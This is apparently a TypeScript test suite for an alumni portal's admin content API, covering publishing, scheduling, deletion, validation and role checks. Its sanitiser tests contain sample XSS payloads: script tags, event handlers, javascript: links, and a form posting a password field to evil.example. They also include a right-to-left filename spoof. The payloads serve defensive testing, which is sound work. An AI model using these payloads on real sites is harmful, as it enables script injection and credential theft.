import { beforeAll, describe, expect, it } from 'vitest';
import { serverSuite, staffToken } from '../helpers/server.ts';

const suite = serverSuite({ zhang: 'demo-zhangming' });
let editor: string;
beforeAll(async () => {
  editor = await staffToken(suite.server, 'editor');
});

type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';
const console_ = (method: Method, url: string, payload?: object) => suite.inject(editor, method, url, payload);
const publicGet = (url: string) => suite.inject(suite.tokens.zhang, 'GET', url);

const cover = '/media/cover-01.svg';

/** One valid body of each kind, a draft, and where the public finds it. */
const kinds: Record<string, { body: Record<string, unknown>; list: string; detail?: string; paged: boolean }> = {
  news: {
    body: { title: '测试新闻标题', summary: '新闻摘要', cover, content: '<p>新闻正文</p>', author: '校友会', source: '校友总会' },
    list: '/api/alumnews/list?pageSize=50',
    detail: '/api/alumnews',
    paged: true,
  },
  notices: {
    body: { title: '测试通知公告标题', content: '<p>通知正文</p>' },
    list: '/api/alumnotice/list?pageSize=50',
    detail: '/api/alumnotice',
    paged: true,
  },
  activities: {
    body: {
      title: '测试活动名称',
      summary: '活动摘要',
      cover,
      content: '<p>活动介绍</p>',
      place: '学校礼堂',
      organizer: '校友总会',
      // As the server answers times: UTC, with milliseconds.
      startTime: '2027-01-10T01:00:00.000Z',
      endTime: '2027-01-10T04:00:00.000Z',
      capacity: 100,
      signupDeadline: '2027-01-05T10:00:00.000Z',
    },
    list: '/api/alumactivity/list?pageSize=50',
    detail: '/api/alumactivity',
    paged: true,
  },
  outstanding: {
    body: {
      name: '王测试',
      honour: '全国劳动模范',
      graduationYear: 2005,
      faculty: '信息工程学院',
      major: '计算机科学与技术',
      summary: '事迹简介',
      photo: cover,
      content: '<p>事迹</p>',
    },
    list: '/api/alumoutstanding/list?pageSize=50',
    detail: '/api/alumoutstanding',
    paged: true,
  },
  organizations: {
    body: {
      name: '测试校友会',
      kind: 'regional',
      region: '杭州市',
      summary: '组织简介',
      cover,
      content: '<p>组织介绍</p>',
      foundedAt: '2020-05-01',
      leader: '张会长',
      contact: '0571-88888888',
    },
    list: '/api/alumorganization/list?pageSize=50',
    detail: '/api/alumorganization',
    paged: true,
  },
  scenery: {
    body: { title: '冬日校园', description: '雪后的图书馆', image: cover, width: 1200, height: 800, season: 'winter', sort: 99 },
    list: '/api/scenery/list',
    paged: false,
  },
  'donation-projects': {
    body: {
      title: '测试捐赠项目',
      summary: '项目摘要',
      cover,
      content: '<p>项目介绍</p>',
      targetAmount: 100000,
      startDate: '2026-01-01',
      endDate: '2027-12-31',
      status: 'active',
    },
    list: '/api/donation/projects',
    detail: '/api/donation/projects',
    paged: false,
  },
  companies: {
    body: {
      name: '测试科技有限公司',
      industry: 'it',
      scale: '100-499',
      city: '杭州',
      logo: '/media/logo.svg',
      summary: '企业简介',
      introduction: '<p>企业介绍</p>',
      founderName: '陈测试',
      founderGraduation: '2010届 软件工程',
      website: 'https://example.com',
      contactName: '李联系',
      contactPhone: '13800000000',
      contactEmail: 'hr@example.com',
    },
    list: '/api/alumcompany/list?pageSize=50',
    detail: '/api/alumcompany',
    paged: true,
  },
  jobs: {
    body: {
      companyId: 1,
      title: '后端工程师',
      city: '杭州',
      salaryMin: 15,
      salaryMax: 25,
      education: '本科',
      experience: '1-3年',
      headcount: 2,
      description: '<p>岗位职责</p>',
      status: 'open',
    },
    list: '/api/recruitment/list?pageSize=50',
    detail: '/api/recruitment',
    paged: true,
  },
};

async function publicIds(kind: string): Promise<number[]> {
  const { data } = (await publicGet(kinds[kind].list)).json();
  return (kinds[kind].paged ? data.list : data).map((r: { id: number }) => r.id);
}
const publicStatus = async (kind: string, id: number) =>
  kinds[kind].detail ? (await publicGet(`${kinds[kind].detail}/${id}`)).statusCode : null;

async function create(kind: string, extra: Record<string, unknown> = {}): Promise<number> {
  const res = await console_('POST', `/api/admin/content/${kind}`, { ...kinds[kind].body, publishState: 'draft', ...extra });
  expect(res.statusCode, res.body).toBe(200);
  return res.json().data.id;
}

const lastAudit = async () =>
  (
    await suite.server.db.query<{ summary: string; entity: string; entity_id: string }>('select * from audit_log order by id desc limit 1')
  )[0];

describe('publishing every kind', () => {
  it.each(Object.keys(kinds))('%s: a draft stays private, publishing shows it at once, withdrawing hides it', async (kind) => {
    const id = await create(kind);
    const record = (await console_('GET', `/api/admin/content/${kind}/${id}`)).json().data;
    expect(record).toMatchObject({ ...kinds[kind].body, id, publishState: 'draft', deletedAt: null, live: false });
    expect(await publicIds(kind)).not.toContain(id);
    if (kinds[kind].detail) expect(await publicStatus(kind, id)).toBe(404);

    const published = await console_('POST', `/api/admin/content/${kind}/${id}/publish`, {});
    expect(published.statusCode, published.body).toBe(200);
    expect(published.json().data).toMatchObject({ publishState: 'published', live: true });
    expect(await publicIds(kind)).toContain(id);
    if (kinds[kind].detail) expect(await publicStatus(kind, id)).toBe(200);
    expect((await lastAudit()).summary).toMatch(/^发布/);

    expect((await console_('POST', `/api/admin/content/${kind}/${id}/withdraw`, {})).json().data.publishState).toBe('offline');
    expect(await publicIds(kind)).not.toContain(id);
    if (kinds[kind].detail) expect(await publicStatus(kind, id)).toBe(404);
  });
});

describe('the console list', () => {
  it('lists the last edited first, with the title, the cover and the state; filters by state and keyword', async () => {
    const id = await create('news', { title: '列表测试新闻' });
    const { data } = (await console_('GET', '/api/admin/content/news?pageSize=5')).json();
    expect(data.list[0]).toMatchObject({ id, title: '列表测试新闻', cover, publishState: 'draft', deletedAt: null, live: false });
    expect(data.total).toBeGreaterThan(5);
    const drafts = (await console_('GET', '/api/admin/content/news?state=draft&pageSize=50')).json().data.list;
    expect(drafts.every((r: { publishState: string }) => r.publishState === 'draft')).toBe(true);
    const found = (await console_('GET', `/api/admin/content/news?keyword=${encodeURIComponent('列表测试')}`)).json().data;
    expect(found.list.map((r: { id: number }) => r.id)).toEqual([id]);
    const jobs = (await console_('GET', '/api/admin/content/jobs?pageSize=1')).json().data.list;
    expect(jobs[0].cover).toBeNull();
  });

  it('leaves a deleted row out of the default list, shows it under state=deleted, and restores it', async () => {
    const id = await create('news', { publishState: 'published' });
    expect(await publicIds('news')).toContain(id);
    expect((await console_('DELETE', `/api/admin/content/news/${id}`)).json().data.deletedAt).not.toBeNull();
    expect((await lastAudit()).summary).toBe(`删除新闻《${kinds.news.body.title}》`);
    expect(await publicIds('news')).not.toContain(id);
    const ids = async (q: string) =>
      (await console_('GET', `/api/admin/content/news?pageSize=50${q}`)).json().data.list.map((r: { id: number }) => r.id);
    expect(await ids('')).not.toContain(id);
    expect(await ids('&state=deleted')).toContain(id);
    expect((await console_('GET', `/api/admin/content/news/${id}`)).statusCode).toBe(200);
    expect((await console_('POST', `/api/admin/content/news/${id}/publish`, {})).statusCode).toBe(404);

    expect((await console_('POST', `/api/admin/content/news/${id}/restore`, {})).json().data).toMatchObject({
      deletedAt: null,
      live: true,
    });
    expect(await ids('')).toContain(id);
    expect(await publicIds('news')).toContain(id);
  });

  it('answers 404 for unknown ids on every route', async () => {
    for (const [method, url] of [
      ['GET', '/api/admin/content/news/999999'],
      ['PUT', '/api/admin/content/news/999999'],
      ['POST', '/api/admin/content/news/999999/publish'],
      ['POST', '/api/admin/content/news/999999/withdraw'],
      ['DELETE', '/api/admin/content/news/999999'],
      ['POST', '/api/admin/content/news/999999/restore'],
    ] as const) {
      const payload = method === 'PUT' ? { ...kinds.news.body, publishState: 'draft' } : method === 'POST' ? {} : undefined;
      expect((await console_(method, url, payload)).statusCode, `${method} ${url}`).toBe(404);
    }
  });
});

describe('scheduled publication', () => {
  it('keeps a row published for later out of sight until its time, then shows it', async () => {
    const later = new Date(Date.now() + 3600_000).toISOString();
    const id = await create('news', { publishState: 'published', publishedAt: later });
    expect((await console_('GET', `/api/admin/content/news/${id}`)).json().data).toMatchObject({ publishState: 'published', live: false });
    expect(await publicIds('news')).not.toContain(id);
    expect(await publicStatus('news', id)).toBe(404);

    const earlier = new Date(Date.now() - 60_000).toISOString();
    const res = await console_('POST', `/api/admin/content/news/${id}/publish`, { publishedAt: earlier });
    expect(res.json().data.live).toBe(true);
    expect(await publicStatus('news', id)).toBe(200);
  });

  it('shows a row scheduled a moment ahead as soon as its time comes, though the list was just answered from memory', async () => {
    const soon = new Date(Date.now() + 1500).toISOString();
    const id = await create('news', { publishState: 'published', publishedAt: soon });
    // Asked before its time: remembered without it (the window is 10 s)…
    expect(await publicIds('news')).not.toContain(id);
    expect(await publicStatus('news', id)).toBe(404);
    // …and shown once it is due, well inside the window.
    await expect.poll(() => publicIds('news'), { timeout: 5000, interval: 200 }).toContain(id);
    expect(await publicStatus('news', id)).toBe(200);
  });

  it('schedules through publish with a later time, and says so in the audit log', async () => {
    const id = await create('activities');
    const res = await console_('POST', `/api/admin/content/activities/${id}/publish`, { publishedAt: '2099-01-01T08:00:00+08:00' });
    expect(res.json()).toMatchObject({ msg: '已定时发布', data: { publishState: 'published', live: false } });
    expect((await lastAudit()).summary).toBe(`定时发布活动《${kinds.activities.body.title}》（2099-01-01 08:00）`);
    expect((await publicGet(`/api/alumactivity/${id}/stats`)).statusCode).toBe(404);
  });
});

describe('saving', () => {
  it('sanitises HTML with the portal policy: no scripts, no handlers, no foreign pictures', async () => {
    const content =
      '<p onclick="steal()">正文<script>alert(1)</script></p><img src="/uploads/a.png" onerror="alert(1)"><img src="https://evil.example/t.png"><a href="javascript:alert(1)">链接</a><iframe src="https://evil.example"></iframe>';
    const id = await create('news', { content, publishState: 'published' });
    const stored = (await console_('GET', `/api/admin/content/news/${id}`)).json().data.content;
    expect(stored).not.toMatch(/script|onerror|onclick|javascript|iframe|evil/);
    expect(stored).toContain('<img src="/uploads/a.png"');
    expect((await publicGet(`/api/alumnews/${id}`)).json().data.content).toBe(stored);
  });

  // HTML that reached a row without the sanitiser (an older version, an approval, the database by hand) passes it when
  // the row goes public, by publishing or by restoring.
  const hostileHtml =
    '<p>正文</p><script>window.__xss=1</script><img src=x onerror="window.__xss=2"><form action="https://evil.example/steal"><input name="pw"></form>';
  const cleaned = '<p>正文</p><img src="/uploads/a.png" loading="lazy" decoding="async">';
  const written = (kind: string, column: string, id: number) =>
    suite.server.db.query(`update ${kind} set ${column} = $2 where id = $1`, [id, hostileHtml.replace('src=x', 'src="/uploads/a.png"')]);

  it.each([
    ['news', 'news', 'content'],
    ['companies', 'company', 'introduction'],
    ['jobs', 'job', 'description'],
  ])('publishing a %s row sanitises the HTML it stored', async (kind, table, column) => {
    const id = await create(kind);
    await written(table, column, id);
    expect((await console_('POST', `/api/admin/content/${kind}/${id}/publish`, {})).statusCode).toBe(200);
    expect((await publicGet(`${kinds[kind].detail}/${id}`)).json().data[column]).toBe(cleaned);
  });

  it('restoring a deleted row sanitises the HTML it stored', async () => {
    const id = await create('news', { publishState: 'published' });
    await console_('DELETE', `/api/admin/content/news/${id}`);
    await written('news', 'content', id);
    expect((await console_('POST', `/api/admin/content/news/${id}/restore`, {})).statusCode).toBe(200);
    expect((await publicGet(`/api/alumnews/${id}`)).json().data.content).toBe(cleaned);
  });

  it('keeps titles without the characters that draw nothing', async () => {
    const id = await create('news', { title: '\ufeff校友\u200b聚会\u200c通知\u2060' });
    expect((await console_('GET', `/api/admin/content/news/${id}`)).json().data.title).toBe('校友聚会通知');
  });

  it('takes an empty publication time as none: dated now', async () => {
    const id = await create('news', { publishState: 'published', publishedAt: '' });
    expect(Date.now() - Date.parse((await console_('GET', `/api/admin/content/news/${id}`)).json().data.publishedAt)).toBeLessThan(60_000);
    expect(await publicStatus('news', id)).toBe(200);
  });

  it('refuses HTML that is nothing once sanitised', async () => {
    const res = await console_('POST', '/api/admin/content/news', {
      ...kinds.news.body,
      content: '<script>x()</script>',
      publishState: 'draft',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().data.field).toBe('content');
  });

  it.each([
    ['news', { title: undefined }, 'title'],
    ['news', { cover: 'https://evil.example/a.png' }, 'cover'],
    ['news', { publishState: 'live' }, 'publishState'],
    ['news', { title: '校友聚会\u202egpj.exe' }, 'title'],
    ['news', { title: '校友聚会\u2029通知' }, 'title'],
    ['news', { summary: '摘要\u2066隔离\u2069' }, 'summary'],
    ['news', { content: '<p>正文\u202d</p>' }, 'content'],
    ['news', { publishedAt: '2026-13-45T00:00:00Z' }, 'publishedAt'],
    ['news', { publishedAt: '2026-12-01T08:00' }, 'publishedAt'],
    ['news', { views: 100 }, 'views'],
    ['activities', { endTime: '2027-01-10T08:00:00+08:00' }, 'endTime'],
    ['activities', { signupDeadline: '2027-01-11T08:00:00+08:00' }, 'signupDeadline'],
    ['organizations', { kind: 'secret' }, 'kind'],
    ['organizations', { foundedAt: '2020-02-30' }, 'foundedAt'],
    ['scenery', { season: 'monsoon' }, 'season'],
    ['donation-projects', { endDate: '2025-01-01' }, 'endDate'],
    ['companies', { industry: 'aerospace' }, 'industry'],
    ['companies', { website: 'javascript:alert(1)' }, 'website'],
    ['jobs', { companyId: 999999 }, 'companyId'],
    ['jobs', { salaryMax: 5 }, 'salaryMax'],
    ['jobs', { education: '小学' }, 'education'],
  ])('%s with %j answers 400 naming %s', async (kind, change, field) => {
    const res = await console_('POST', `/api/admin/content/${kind}`, { ...kinds[kind].body, publishState: 'draft', ...change });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().data.field).toBe(field);
  });

  it('replaces the fields on PUT, keeps the publication time when none is given, and audits what changed', async () => {
    const id = await create('news', { publishState: 'published' });
    const before = (await console_('GET', `/api/admin/content/news/${id}`)).json().data;
    const res = await console_('PUT', `/api/admin/content/news/${id}`, {
      ...kinds.news.body,
      title: '改过的标题',
      content: '<p>改过的正文</p>',
      publishState: 'published',
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().data).toMatchObject({ title: '改过的标题', publishedAt: before.publishedAt });
    const audit = await lastAudit();
    expect(audit).toMatchObject({ entity: 'news', entity_id: String(id), summary: '编辑新闻《改过的标题》：修改了标题、正文' });
    expect((await publicGet(`/api/alumnews/${id}`)).json().data.title).toBe('改过的标题');
  });

  it('keeps an activity large enough for the sign-ups it has', async () => {
    const id = await create('activities', { publishState: 'published' });
    await suite.server.db.query('update activity set signed_count = 3 where id = $1', [id]);
    const res = await console_('PUT', `/api/admin/content/activities/${id}`, {
      ...kinds.activities.body,
      capacity: 2,
      publishState: 'published',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ msg: '人数上限不能少于已报名人数 3', data: { field: 'capacity' } });
  });
});

describe('who may publish', () => {
  it('answers 401 without a staff token and 403 for roles without publishing', async () => {
    expect((await suite.inject(null, 'GET', '/api/admin/content/news')).statusCode).toBe(401);
    expect((await suite.inject(suite.tokens.zhang, 'GET', '/api/admin/content/news')).statusCode).toBe(401);
    for (const account of ['reviewer', 'orgadmin'] as const) {
      const token = await staffToken(suite.server, account);
      expect((await suite.inject(token, 'POST', '/api/admin/content/news', { ...kinds.news.body, publishState: 'draft' })).statusCode).toBe(
        403,
      );
    }
    const admin = await staffToken(suite.server, 'admin');
    expect((await suite.inject(admin, 'GET', '/api/admin/content/jobs')).statusCode).toBe(200);
  });
});
